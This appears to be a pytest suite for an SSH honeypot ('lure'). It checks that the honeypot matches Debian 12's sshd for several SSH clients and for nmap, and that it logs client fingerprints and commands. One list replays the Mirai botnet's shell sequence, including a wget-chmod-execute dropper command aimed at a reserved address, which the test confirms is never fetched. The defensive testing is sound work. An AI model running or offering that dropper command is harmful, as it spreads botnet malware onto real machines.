"""Three SSH client implementations (asyncssh, OpenSSH, paramiko) and nmap -sV
against the linux persona, beside Debian 12's own sshd: what a client sees
when it fails to log in, and how it negotiates, must be the same for both;
logins that "work" run commands and the Mirai sequence on lure only (the real
sshd's accounts are real: it never gets a right password). Every event's
client version and HASSH is checked against a HASSH computed here from the
client's own KEXINIT, read off the wire by a relay (Tap)."""
import asyncio
import ctypes
import hashlib
import os
import re
import socket
import subprocess
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import get, persona

persona("linux")

asyncssh = pytest.importorskip("asyncssh")
paramiko = pytest.importorskip("paramiko")

# the real sshd and the raw protocol helpers: shared with the SSH
# comparison suite (the sensor and its state file: conftest.py)
from ssh_common import SSHD, parse_kexinit, sshd_config  # noqa: E402
from test_linux_ssh import RIGHT, sshd  # noqa: E402,F401

REPO = Path(__file__).resolve().parents[2]
NS = ("ip", "netns", "exec")


# --- a relay that keeps what the client sends in clear ----------------------

class Tap:
    """A TCP relay from a free loopback port to 127.0.0.1:target that keeps
    the first 64 KiB each client sends: its version line and KEXINIT travel
    in clear, so the expected client version and HASSH are computed here,
    independently of lure."""

    def __init__(self, target):
        self.target = target
        self.srv = socket.socket()
        self.srv.bind(("127.0.0.1", 0))
        self.srv.listen(16)
        self.port = self.srv.getsockname()[1]
        self.sent = []  # one bytearray per connection, client -> server
        self.socks = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                c, _ = self.srv.accept()
            except OSError:
                return
            u = socket.create_connection(("127.0.0.1", self.target))
            rec = bytearray()
            self.sent.append(rec)
            self.socks += [c, u]
            threading.Thread(target=self._pump, args=(c, u, rec),
                             daemon=True).start()
            threading.Thread(target=self._pump, args=(u, c, None),
                             daemon=True).start()

    @staticmethod
    def _pump(src, dst, rec):
        try:
            while True:
                d = src.recv(65536)
                if not d:
                    break
                if rec is not None and len(rec) < 65536:
                    rec += d
                dst.sendall(d)
            dst.shutdown(socket.SHUT_WR)
        except OSError:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def hello(self, i=-1):
        """(client version, HASSH, HASSH string) of connection i, from its
        KEXINIT: MD5 of "kex;enc c2s;mac c2s;comp c2s" as the client
        listed them (salesforce/hassh's definition)."""
        return hassh_of(bytes(self.sent[i]))

    def close(self):
        self.srv.close()
        for s in self.socks:
            s.close()


def hassh_of(sent):
    end = sent.index(b"\n")
    version = sent[:end].rstrip(b"\r").decode()
    p = sent[end + 1:]
    length, pad = int.from_bytes(p[:4], "big"), p[4]
    payload = p[5:4 + length - pad]
    lists, _ = parse_kexinit(payload)
    s = ";".join([lists[0], lists[2], lists[4], lists[6]])
    return version, hashlib.md5(s.encode()).hexdigest(), s


@pytest.fixture
def tap(sensor):
    t = Tap(sensor.port(22))
    yield t
    t.close()


def check_client(ev, hello):
    """ev carries the client version and the HASSH computed from the wire."""
    version, hassh, _ = hello
    assert get(ev, "lure.ssh.client_version") == version
    assert get(ev, "lure.ssh.hassh") == hassh


def check_request(sensor, hello):
    """The connection's request event: version, HASSH and its string."""
    version, hassh, algs = hello
    ev = sensor.wait_event("request", lure__ssh__hassh=hassh,
                           lure__ssh__client_version=version)
    assert get(ev, "lure.ssh.hassh_algorithms") == algs
    return ev


# --- asyncssh ---------------------------------------------------------------

def aconnect(port, username, **kw):
    opts = dict(known_hosts=None, agent_path=None, client_keys=None,
                password=None, connect_timeout=20)
    opts.update(kw)
    return asyncssh.connect("127.0.0.1", port, username=username, **opts)


async def afail(port, username, **kw):
    """A login that must fail: (exception class, its text without the
    port, seconds taken)."""
    t0 = time.monotonic()
    try:
        async with aconnect(port, username, **kw):
            pass
    except (asyncssh.Error, OSError) as e:
        return type(e).__name__, str(e), time.monotonic() - t0
    return "logged in", "", time.monotonic() - t0


def arun(coro):
    return asyncio.run(asyncio.wait_for(coro, 120))


def test_asyncssh_wrong_password_like_sshd(sshd, sensor, tap):
    async def both():
        return await asyncio.gather(
            afail(tap.port, "root", password="wrong-as-pw"),
            *[afail(sshd, "root", password=f"wrong-as-pw{i}")
              for i in range(4)])
    ours, *real = arun(both())
    took = sorted(r[2] for r in real)
    print(f"asyncssh wrong password: sshd {took[0]:.2f}-{took[-1]:.2f} s "
          f"(4 at once), lure {ours[2]:.2f} s")
    for r in real:
        assert ours[:2] == r[:2] == ("PermissionDenied",
                                     "Permission denied for user root on "
                                     "host 127.0.0.1")
    # PAM's failure delay: pam_unix asks 2 s, libpam makes it 1-3 s from
    # a seed of the current second (1.9-4.4 s seen on this sshd; attempts
    # started together wait alike): lure's is there and in that range
    assert 1.0 <= ours[2] <= max(took[-1], 3.0) + 1.0, (ours, took)
    hello = tap.hello()
    assert hello[0].startswith("SSH-2.0-AsyncSSH_")
    ev = sensor.wait_event("login", lure__auth__password="wrong-as-pw")
    assert get(ev, "user.name") == "root"
    assert get(ev, "lure.auth.method") == "password"
    assert get(ev, "event.outcome") == "failure"
    check_client(ev, hello)
    check_request(sensor, hello)


def test_asyncssh_exec_and_pty_shell(sensor, tap):
    async def session():
        # one connection each (a second session on one connection: below)
        async with aconnect(tap.port, RIGHT[0], password=RIGHT[1]) as c:
            r = await c.run("uname -a", timeout=20)
        async with aconnect(tap.port, RIGHT[0], password=RIGHT[1]) as c:
            p = await c.create_process(term_type="xterm", term_size=(80, 24))
            seen = await read_prompt(p.stdout)
            p.stdin.write("echo asyncssh-was-here\r")
            seen += await read_prompt(p.stdout)
            p.stdin.write("exit\r")
            await asyncio.wait_for(p.wait_closed(), 10)
            return r, seen, p.exit_status
    r, seen, status = arun(session())
    assert r.exit_status == 0, (r.exit_status, r.stderr)
    assert status == 0
    hello = tap.hello()
    ev = sensor.wait_event("login", lure__auth__password=RIGHT[1],
                           lure__ssh__hassh=hello[1])
    assert get(ev, "event.outcome") == "success"
    check_client(ev, hello)
    for line in ("uname -a", "echo asyncssh-was-here"):
        ev = sensor.wait_event("command", lure__command=line)
        assert get(ev, "user.name") == RIGHT[0]
        check_client(ev, hello)
    assert r.stdout.startswith("Linux "), r.stdout
    # a terminal echoes the typed line; output lines end in CR LF
    assert "echo asyncssh-was-here\r\nasyncssh-was-here\r\n" in seen, seen


async def read_prompt(stream, timeout=5.0):
    """Read until the output ends in a prompt ("# " or "$ ") and nothing
    more comes for 0.3 s."""
    buf = ""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            d = await asyncio.wait_for(stream.read(4096), 0.3)
        except asyncio.TimeoutError:
            if re.search(r"[#$] $", buf):
                return buf
            continue
        if not d:
            break
        buf += d
    raise AssertionError(f"no prompt after {timeout} s: {buf!r}")


DEBIAN_MOTD = (  # base-files 12's /etc/motd
    "\n"
    "The programs included with the Debian GNU/Linux system are free software;\n"
    "the exact distribution terms for each program are described in the\n"
    "individual files in /usr/share/doc/*/copyright.\n"
    "\n"
    "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\n"
    "permitted by applicable law.\n")


def test_pty_login_banner_like_debian(sensor):
    """A login with a terminal on Debian 12 shows pam_motd's message
    before the first prompt: /etc/update-motd.d/10-uname (`uname -snrvm`)
    then /etc/motd, then sshd's "Last login:" line when there was one; the
    terminal turns each LF into CR LF."""
    def login():
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
                  password=RIGHT[1], look_for_keys=False, allow_agent=False,
                  timeout=10)
        return c
    with login() as c:
        _, out, _ = c.exec_command("uname -snrvm")
        uname = out.read().decode().rstrip("\n")
    with login() as c:
        ch = c.invoke_shell()
        ch.settimeout(5)
        buf = b""
        while not buf.endswith(b"# "):
            buf += ch.recv(4096)
    assert uname.startswith("Linux ") and uname.endswith(" x86_64"), uname
    motd = (uname + "\n" + DEBIAN_MOTD).replace("\n", "\r\n")
    text = buf.decode()
    assert text.startswith(motd), text
    rest = text[len(motd):]
    assert re.fullmatch(r"(Last login: \w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d "
                        r"\d{4} from \S+\r\n)?root@[\w.-]+:~# ", rest), rest


def test_asyncssh_second_session_on_one_connection(sensor):
    """sshd serves up to MaxSessions (10) session channels on one
    connection, one after the other or at once; clients that run several
    commands reuse their connection."""
    async def twice():
        async with aconnect(sensor.port(22), RIGHT[0], password=RIGHT[1]) as c:
            a = await c.run("true first", timeout=10)
            b = await c.run("true second", timeout=10)
            return a.exit_status, b.exit_status
    assert arun(twice()) == (0, 0)
    sensor.wait_event("command", lure__command="true second")


@pytest.mark.xfail(strict=True, reason=(
    "emu/ssh.c keeps one session channel per connection: a second "
    "CHANNEL_OPEN while one is open gets OPEN_FAILURE 1 'administratively "
    "prohibited' (and a request event); sshd opens it"))
def test_asyncssh_sessions_at_once_on_one_connection(sensor):
    """An exec while a shell is open on the same connection (sshd's
    MaxSessions is 10)."""
    async def both():
        async with aconnect(sensor.port(22), RIGHT[0], password=RIGHT[1]) as c:
            p = await c.create_process(term_type="xterm")
            await read_prompt(p.stdout)
            r = await c.run("true meanwhile", timeout=10)
            p.stdin.write("exit\r")
            await asyncio.wait_for(p.wait_closed(), 10)
            return r.exit_status, p.exit_status
    assert arun(both()) == (0, 0)
    sensor.wait_event("command", lure__command="true meanwhile")


def test_asyncssh_publickeys_logged(sshd, sensor, tap):
    """Each key offered is a login event with its algorithm and SHA-256
    fingerprint (as the client library computes it); sshd and lure refuse
    them alike."""
    keys = [asyncssh.generate_private_key("ecdsa-sha2-nistp384"),
            asyncssh.generate_private_key("ssh-ed25519"),
            asyncssh.generate_private_key("ssh-rsa", 2048)]

    async def both():
        return await asyncio.gather(
            afail(sshd, "deploy", client_keys=keys),
            afail(tap.port, "deploy", client_keys=keys))
    real, ours = arun(both())
    assert ours[:2] == real[:2] == (
        "PermissionDenied", "Permission denied for user deploy on host 127.0.0.1")
    hello = tap.hello()
    evs = sensor.wait_count(3, "login", user__name="deploy",
                            lure__auth__method="publickey")
    got = [(get(e, "lure.ssh.key_type"), get(e, "lure.ssh.key_fingerprint"))
           for e in evs]
    want = [("ecdsa-sha2-nistp384", keys[0].get_fingerprint("sha256")),
            ("ssh-ed25519", keys[1].get_fingerprint("sha256"))]
    assert got[:2] == want
    # RSA keys are offered under a SHA-2 signature algorithm
    assert got[2][0] in ("rsa-sha2-256", "rsa-sha2-512"), got[2]
    assert got[2][1] == keys[2].get_fingerprint("sha256")
    for e in evs:
        assert get(e, "event.outcome") == "failure"
        check_client(e, hello)


def test_keyboard_interactive_like_sshd(sshd, sensor):
    """Debian's sshd has keyboard-interactive off: asyncssh does not even
    try it, and a client that asks anyway (paramiko) is refused with the
    same list of methods; lure captures nothing there is not."""
    async def both():
        return await asyncio.gather(
            afail(sshd, "root", kbdint_auth=True, password=None),
            afail(sensor.port(22), "root", kbdint_auth=True, password=None))
    real, ours = arun(both())
    assert ours[:2] == real[:2]
    assert ours[0] == "PermissionDenied"

    def interactive(port):
        t = paramiko.Transport(("127.0.0.1", port))
        t.start_client(timeout=10)
        try:
            t.auth_interactive("root", lambda title, instr, prompts:
                               ["kbd-secret"] * len(prompts))
            return "ok"
        except paramiko.BadAuthenticationType as e:
            return ("bad-type", sorted(e.allowed_types))
        except paramiko.AuthenticationException as e:
            return ("failed", str(e))
        finally:
            t.close()
    assert interactive(sensor.port(22)) == interactive(sshd) == (
        "bad-type", ["password", "publickey"])
    assert not sensor.find("login", lure__auth__password="kbd-secret")


ASYNC_ALGS = {
    "gex-aes256gcm": dict(kex_algs=["diffie-hellman-group-exchange-sha256"],
                          encryption_algs=["aes256-gcm@openssh.com"]),
    "nistp384-aes192ctr-sha1": dict(kex_algs=["ecdh-sha2-nistp384"],
                                    encryption_algs=["aes192-ctr"],
                                    mac_algs=["hmac-sha1"]),
    "group16-chacha-rsa": dict(kex_algs=["diffie-hellman-group16-sha512"],
                               encryption_algs=["chacha20-poly1305@openssh.com"],
                               server_host_key_algs=["rsa-sha2-512"]),
    "nistp521-aes128ctr-etm-ecdsa": dict(
        kex_algs=["ecdh-sha2-nistp521"], encryption_algs=["aes128-ctr"],
        mac_algs=["hmac-sha2-512-etm@openssh.com"],
        server_host_key_algs=["ecdsa-sha2-nistp256"]),
}


@pytest.mark.parametrize("case", sorted(ASYNC_ALGS))
def test_asyncssh_algorithms(sshd, sensor, tap, case):
    """asyncssh offering only one algorithm of a kind: sshd and lure agree
    on it (both refuse the wrong password after it), and lure runs the
    command after the right one; the HASSH follows the offer."""
    algs = ASYNC_ALGS[case]

    async def run():
        real, ours = await asyncio.gather(
            afail(sshd, "root", password="wrong-alg-pw", **algs),
            afail(tap.port, "root", password="wrong-alg-pw", **algs))
        async with aconnect(tap.port, RIGHT[0], password=RIGHT[1],
                            **algs) as c:
            r = await c.run(f"true {case}", timeout=20)
        return real, ours, r.exit_status
    real, ours, status = arun(run())
    assert ours[:2] == real[:2]
    assert ours[0] == "PermissionDenied"
    assert status == 0
    hello = tap.hello()
    for a in algs.get("kex_algs", []) + algs.get("encryption_algs", []):
        assert a in hello[2].split(";")[0].split(",") + \
            hello[2].split(";")[1].split(",")
    ev = sensor.wait_event("command", lure__command=f"true {case}")
    check_client(ev, hello)


# --- OpenSSH ----------------------------------------------------------------

def ssh_argv(port, user, *opts):
    """The OpenSSH client, options first (ssh keeps the first value of an
    option); -v so that the negotiation can be compared."""
    return ["ssh", *opts, "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null",
            "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
            "-p", str(port), f"{user}@127.0.0.1"]


def sshpass(password, argv, stdin=None, timeout=60):
    t0 = time.monotonic()
    r = subprocess.run(["sshpass", "-p", password, *argv], input=stdin,
                       capture_output=True, timeout=timeout,
                       stdin=None if stdin is not None else subprocess.DEVNULL)
    r.seconds = time.monotonic() - t0
    return r


def transcript(stderr):
    """ssh -v's story of a connection, without what differs between two
    servers that are the same: ports, the host key's fingerprint."""
    t = stderr.decode(errors="replace")
    t = re.sub(r"(port |\]:|127\.0\.0\.1:)\d+", r"\1PORT", t)
    t = re.sub(r"SHA256:[A-Za-z0-9+/]{43}", "SHA256:FP", t)
    return t.splitlines()


OPENSSH = {
    "aes256-gcm": ["-c", "aes256-gcm@openssh.com"],
    "aes128-ctr+hmac-sha2-256-etm": [
        "-c", "aes128-ctr", "-o", "MACs=hmac-sha2-256-etm@openssh.com"],
    "ecdh-sha2-nistp384": ["-o", "KexAlgorithms=ecdh-sha2-nistp384"],
    "diffie-hellman-group16-sha512": [
        "-o", "KexAlgorithms=diffie-hellman-group16-sha512"],
    "gex+aes192-ctr+hmac-sha2-512": [
        "-o", "KexAlgorithms=diffie-hellman-group-exchange-sha256",
        "-c", "aes192-ctr", "-o", "MACs=hmac-sha2-512"],
    "group14+rsa-sha2-256+aes256-ctr+hmac-sha1-etm": [
        "-o", "KexAlgorithms=diffie-hellman-group14-sha256",
        "-o", "HostKeyAlgorithms=rsa-sha2-256", "-c", "aes256-ctr",
        "-o", "MACs=hmac-sha1-etm@openssh.com"],
    "nistp521+ecdsa+aes128-gcm": [
        "-o", "KexAlgorithms=ecdh-sha2-nistp521",
        "-o", "HostKeyAlgorithms=ecdsa-sha2-nistp256",
        "-c", "aes128-gcm@openssh.com"],
}


@pytest.mark.parametrize("case", list(OPENSSH))
def test_openssh_negotiation_like_sshd(sshd, sensor, tap, case):
    """ssh -v with non-default algorithms: the wrong password's whole
    dialogue (negotiated algorithms, GEX sizes, EXT_INFO, methods, the
    refusal) is line for line sshd's; then the right password runs a
    command on lure."""
    opts = OPENSSH[case]
    out = {}
    th = [threading.Thread(target=lambda k=k, p=p: out.__setitem__(
        k, sshpass("wrong-ossh-pw", ssh_argv(p, "root", *opts, "-v")
                   + ["true"]))) for k, p in (("real", sshd), ("ours", tap.port))]
    for x in th:
        x.start()
    for x in th:
        x.join(timeout=90)
    real, ours = out["real"], out["ours"]
    assert real.returncode == ours.returncode == 255
    assert transcript(ours.stderr) == transcript(real.stderr)
    assert b"Permission denied (publickey,password)." in ours.stderr
    print(f"{case}: wrong password sshd {real.seconds:.2f} s, "
          f"lure {ours.seconds:.2f} s")
    ok = sshpass(RIGHT[1], ssh_argv(tap.port, RIGHT[0], *opts, "-v")
                 + [f"true {case}"])
    assert ok.returncode == 0, ok.stderr[-2000:]
    for line in transcript(real.stderr):
        if line.startswith("debug1: kex: "):
            assert line in transcript(ok.stderr)
    hello = tap.hello()
    ev = sensor.wait_event("command", lure__command=f"true {case}")
    check_client(ev, hello)
    check_request(sensor, hello)


def test_openssh_exec_output_and_exit_status(sensor):
    port = sensor.port(22)
    r = sshpass(RIGHT[1], ssh_argv(port, RIGHT[0]) + ["echo hello; exit 3"])
    assert r.returncode == 3, r.stderr
    assert r.stdout == b"hello\n"
    r = sshpass(RIGHT[1], ssh_argv(port, RIGHT[0]) + ["uname -s"])
    assert (r.returncode, r.stdout) == (0, b"Linux\n"), r.stderr
    # with a terminal (-tt) the output's line ends are CR LF
    r = sshpass(RIGHT[1], ssh_argv(port, RIGHT[0], "-tt") + ["echo tty"])
    assert (r.returncode, r.stdout) == (0, b"tty\r\n"), r.stderr
    sensor.wait_event("command", lure__command="echo hello; exit 3")


def test_openssh_exec_errors_go_to_stderr(sensor):
    """sshd runs an exec request as `bash -c COMMAND` (argv[0] "bash", not
    the login shell's "-bash"): errors go to the stderr stream, stdout
    stays empty, 127 for a command that is not found (bash 5.2.15 on
    Debian 12 names the line of the -c text: "bash: line 1: nosuchcmd:
    command not found"; test_diff_shell.py compares with the real sshd)."""
    r = sshpass(RIGHT[1], ssh_argv(sensor.port(22), RIGHT[0], "-o", "LogLevel=ERROR")
                + ["nosuchcmd"])
    assert r.returncode == 127, r.stderr
    assert r.stdout == b""
    assert r.stderr == b"bash: line 1: nosuchcmd: command not found\n"


def test_openssh_no_pty_shell_has_no_prompt(sensor):
    """`ssh -T` with commands on stdin: the shell reads a pipe, so it is
    not interactive: no prompt, no echo, only the commands' output."""
    r = sshpass(RIGHT[1], ssh_argv(sensor.port(22), RIGHT[0], "-T"),
                stdin=b"echo one\necho two\nexit\n")
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"one\ntwo\n"
    sensor.wait_event("command", lure__command="echo two")


# --- paramiko ---------------------------------------------------------------

PARAMIKO_KEX = ["ecdh-sha2-nistp384", "ecdh-sha2-nistp521",
                "diffie-hellman-group16-sha512",
                "diffie-hellman-group-exchange-sha256",
                "diffie-hellman-group14-sha256"]


@pytest.mark.parametrize("kex", PARAMIKO_KEX)
def test_paramiko_kex_and_exit_status(sshd, sensor, tap, kex):
    """paramiko restricted to one key exchange (and aes256-ctr with
    hmac-sha2-512): the wrong password fails alike on both servers, the
    right one runs an exec whose exit status comes back."""
    others = [k for k in paramiko.Transport._preferred_kex if k != kex]
    ciphers = [c for c in paramiko.Transport._preferred_ciphers
               if c != "aes256-ctr"]
    macs = [m for m in paramiko.Transport._preferred_macs
            if m != "hmac-sha2-512"]
    disabled = {"kex": others, "ciphers": ciphers, "macs": macs}

    def connect(port, pw):
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        c.connect("127.0.0.1", port, username="root", password=pw,
                  look_for_keys=False, allow_agent=False, timeout=20,
                  disabled_algorithms=disabled)
        return c

    def fail(port, out):
        try:
            connect(port, "wrong-pk-pw").close()
            out.append("logged in")
        except paramiko.AuthenticationException as e:
            out.append(str(e))
    real, ours = [], []
    th = [threading.Thread(target=fail, args=(sshd, real)),
          threading.Thread(target=fail, args=(tap.port, ours))]
    for x in th:
        x.start()
    for x in th:
        x.join(timeout=60)
    assert ours == real == ["Authentication failed."]
    c = connect(tap.port, RIGHT[1])
    try:
        t = c.get_transport()
        assert (t.local_cipher, t.local_mac) == ("aes256-ctr", "hmac-sha2-512")
        _, out, _ = c.exec_command(f"true {kex}", timeout=20)
        assert out.channel.recv_exit_status() == 0
    finally:
        c.close()
    hello = tap.hello()
    # the offer (hence the negotiation) held only these, beside the
    # ext-info and strict-KEX markers
    offer = [a.split(",") for a in hello[2].split(";")]
    assert [k for k in offer[0] if "@openssh.com" not in k and
            k != "ext-info-c"] == [kex]
    assert offer[1:3] == [["aes256-ctr"], ["hmac-sha2-512"]]
    ev = sensor.wait_event("command", lure__command=f"true {kex}")
    check_client(ev, hello)


# --- the Mirai sequence, in a network namespace with a trap for downloads ----

_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET = 0x40000000


def in_netns(name, fn):
    """fn() run by a thread that entered network namespace name: sockets it
    makes stay there (the rest of the test stays in the host's)."""
    out = {}

    def run():
        fd = os.open(f"/var/run/netns/{name}", os.O_RDONLY)
        try:
            if _libc.setns(fd, CLONE_NEWNET) != 0:
                out["e"] = OSError(ctypes.get_errno(), "setns")
                return
            out["v"] = fn()
        except BaseException as e:  # noqa: B902  (handed to the caller)
            out["e"] = e
        finally:
            os.close(fd)
    t = threading.Thread(target=run)
    t.start()
    t.join()
    if "e" in out:
        raise out["e"]
    return out["v"]


MIRAI = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI",
         "cat /proc/mounts", r"echo -e '\x41\x4b\x34\x37'",
         "cd /tmp; wget http://192.0.2.1/x.sh; chmod +x x.sh; ./x.sh"]


def persona_has_busybox():
    conf = REPO / "emu" / "personas" / "linux" / "shell.conf"
    return conf.is_file() and re.search(r"^shell\.busybox\s", conf.read_text(),
                                        re.M) is not None


def test_mirai_sequence_over_ssh(lure, netns, state):
    """Mirai's login check, typed into an interactive SSH shell with a pty,
    one line at a time: one command event per line, the dropper URL in
    lure.indicators.url, and the answers Mirai looks for. lure runs in a
    namespace where 192.0.2.1:80 is a listening trap: nothing may reach it
    (nothing is ever fetched)."""
    subprocess.run(["ip", "-n", netns, "addr", "add", "192.0.2.1/32", "dev",
                    "lo"], check=True)
    s = lure({"listen": ["127.0.0.1"], "state_file": str(state),
              "limits": {"idle_timeout": 60}},
             offset=0, wrap=NS + (netns,), wait=False)
    s.start_event = s.wait_event("status", timeout=60, event__reason="start")

    def sockets():
        trap = socket.socket()
        trap.bind(("192.0.2.1", 80))
        trap.listen(8)
        trap.setblocking(False)
        c = socket.socket()
        c.settimeout(10)
        for _ in range(100):
            try:
                c.connect(("127.0.0.1", 22))
                break
            except OSError:
                time.sleep(0.05)
        return trap, c
    trap, sock = in_netns(netns, sockets)
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect("127.0.0.1", 22, username=RIGHT[0], password=RIGHT[1],
                   sock=sock, look_for_keys=False, allow_agent=False,
                   timeout=20)
    ch = client.invoke_shell(term="vt100")
    ch.settimeout(0.3)

    def until_prompt(timeout=5.0):
        buf = b""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            try:
                d = ch.recv(4096)
            except socket.timeout:
                if re.search(rb"[#$] $", buf):
                    return buf.decode(errors="replace")
                continue
            if not d:
                break
            buf += d
        raise AssertionError(f"no prompt: {buf!r}")
    answers = {}
    until_prompt()
    for line in MIRAI:
        ch.sendall(line.encode() + b"\r")
        answers[line] = until_prompt()
    ch.sendall(b"exit\rexit\r")
    client.close()
    print("".join(answers.values()))

    evs = s.wait_count(len(MIRAI), "command")
    cmds = [get(e, "lure.command") for e in evs]
    assert cmds[:len(MIRAI)] == MIRAI
    wget = evs[MIRAI.index(MIRAI[-1])]
    assert "http://192.0.2.1/x.sh" in get(wget, "lure.indicators.url", [])
    for e in evs[:len(MIRAI)]:
        assert get(e, "user.name") == RIGHT[0]
        assert get(e, "lure.ssh.client_version", "").startswith(
            "SSH-2.0-paramiko_")

    # each answer: the echoed line, CR LF, the output (CR LF ends), prompt
    for line, a in answers.items():
        assert a.startswith(line + "\r\n"), (line, a)
        assert "\n" not in a.replace("\r\n", ""), (line, a)
    bb = answers["/bin/busybox ECCHI"]
    if persona_has_busybox():
        assert "\r\nECCHI: applet not found\r\n" in bb, bb
    else:
        assert re.search(r"/bin/busybox: (No such file or directory|not found)",
                         bb), bb
    assert "\r\nAK47\r\n" in answers[MIRAI[6]], answers[MIRAI[6]]
    mounts = [l.split() for l in answers["cat /proc/mounts"].split("\r\n")[1:-1]]
    assert mounts and all(len(m) == 6 for m in mounts), mounts
    assert "/" in [m[1] for m in mounts], mounts

    # nothing was fetched: the trap saw no connection, and lure holds no
    # socket towards 192.0.2.1 (its namespace's /proc/net/tcp)
    try:
        trap.accept()
        pytest.fail("something connected to 192.0.2.1:80")
    except BlockingIOError:
        pass
    trap.close()
    tcp = Path(f"/proc/{s.pid}/net/tcp").read_text()
    assert "010200C0" not in tcp.upper(), tcp  # 192.0.2.1, little-endian
    assert s.alive()


# --- nmap -sV: lure and sshd side by side ------------------------------------

SCRIPTS = ("ssh2-enum-algos", "ssh-auth-methods")


def nmap_ssh(netns, xml, datadir=None):
    cmd = list(NS) + [netns, "nmap", "-n", "-Pn", "-sV", "-p", "22",
                      "--script", ",".join(SCRIPTS), "-oX", str(xml)]
    if datadir:
        cmd += ["--datadir", str(datadir)]
    r = subprocess.run(cmd + ["127.0.0.1", "127.0.0.2"], capture_output=True,
                       timeout=600)
    assert r.returncode == 0, r.stderr.decode()
    found = {}
    for host in ET.parse(xml).getroot().iter("host"):
        addr = host.find("address").get("addr")
        port = host.find("ports/port")
        svc = port.find("service")
        found[addr] = (port.find("state").get("state"),) + tuple(
            svc.get(k, "") for k in ("name", "product", "version",
                                     "extrainfo", "ostype", "method")) + (
            tuple(c.text for c in svc.iter("cpe")),) + tuple(sorted(
                (x.get("id"), x.get("output")) for x in port.iter("script")))
    return found


@pytest.fixture
def side_by_side(lure, netns, state, tmp_path):
    """lure on 127.0.0.1:22 and Debian's sshd on 127.0.0.2:22, in one
    namespace: yields the namespace's name."""
    if not os.access(SSHD, os.X_OK):
        pytest.skip("needs openssh-server")
    s = lure({"listen": ["127.0.0.1"], "state_file": str(state)},
             offset=0, wrap=NS + (netns,), wait=False)
    s.wait_event("status", timeout=60, event__reason="start")
    d = tmp_path / "sshd"
    d.mkdir()
    cfg = sshd_config(d, 22, listen="127.0.0.2")
    p = subprocess.Popen(list(NS) + [netns, SSHD, "-D", "-f", str(cfg),
                                     "-E", str(d / "log")])
    try:
        in_netns(netns, lambda: wait_port_at("127.0.0.2", 22))
        yield netns
    finally:
        p.terminate()
        p.wait(timeout=10)


def wait_port_at(addr, port, timeout=10.0):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            socket.create_connection((addr, port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.05)
    raise AssertionError(f"nothing listens on {addr}:{port}")


@pytest.mark.parametrize("db", ["7.93", "7.95"])
def test_nmap_names_lure_as_sshd(side_by_side, tmp_path, db):
    """nmap -sV on port 22 of both: the same service, product, version,
    extra info, OS type and CPEs, with Debian 12's service database (7.93)
    and Debian 13's (7.95, LURE_NMAP_DB)."""
    datadir = None
    if db == "7.95":
        d = os.environ.get("LURE_NMAP_DB")
        if not d or not (Path(d) / "nmap-service-probes").is_file():
            pytest.fail("LURE_NMAP_DB must hold Debian 13's nmap-service-probes "
                        "(sh tools/nmapdb.sh build/deps/nmap-db)")
        datadir = Path(d).resolve()
    found = nmap_ssh(side_by_side, tmp_path / f"nmap{db}.xml", datadir)
    print(db, found)
    assert found["127.0.0.1"] == found["127.0.0.2"]
    state_, name, product, version, extra, ostype, method, _ = \
        found["127.0.0.1"][:8]
    assert (state_, name, product, ostype, method) == (
        "open", "ssh", "OpenSSH", "Linux", "probed")
    assert version.startswith("9.2p1 Debian 2+deb12u"), version
    assert "protocol 2.0" in extra
    # the scripts' reports (algorithm lists, auth methods) are in too
    scripts = dict(found["127.0.0.1"][8:])
    assert sorted(scripts) == sorted(SCRIPTS), scripts
    assert "sntrup761x25519-sha512" in scripts["ssh2-enum-algos"]
    assert "password" in scripts["ssh-auth-methods"]
